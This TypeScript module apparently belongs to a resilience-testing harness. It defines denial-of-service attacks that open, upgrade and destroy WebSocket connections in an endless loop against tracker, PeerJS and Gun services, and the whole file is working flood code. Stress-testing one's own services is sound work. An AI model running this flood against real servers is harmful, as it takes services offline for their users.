// Connections, nothing else: opened, upgraded and closed as fast as the machine can.
import type { Attack, ServiceName } from '../attack.ts';
import { crowd, RawSocket, upgradeRequest } from '../raw-socket.ts';

const attackOn = (id: string, service: ServiceName, path: (index: number) => string): Attack => ({
  id,
  title: 'WebSockets opened and closed without end',
  service,
  run: ({ port }) =>
    crowd(async ({ index, address }) => {
      for (;;) {
        const socket = await RawSocket.connect(port, address);
        await socket.send(upgradeRequest(path(index)));
        await Promise.race([
          socket.closed,
          new Promise((resolve) => socket.socket.once('data', resolve)),
          new Promise((resolve) => setTimeout(resolve, 1_000)),
        ]);
        socket.socket.destroy();
      }
    }),
});

export const onTracker = attackOn('v1a', 'tracker', () => '/');
export const onPeerjs = attackOn(
  'v1b',
  'peerjs',
  (index) => `/peerjs?key=peerjs&id=attacker${index}&token=token&version=1.5.5`,
);
export const onGun = attackOn('v1c', 'gun', () => '/gun');
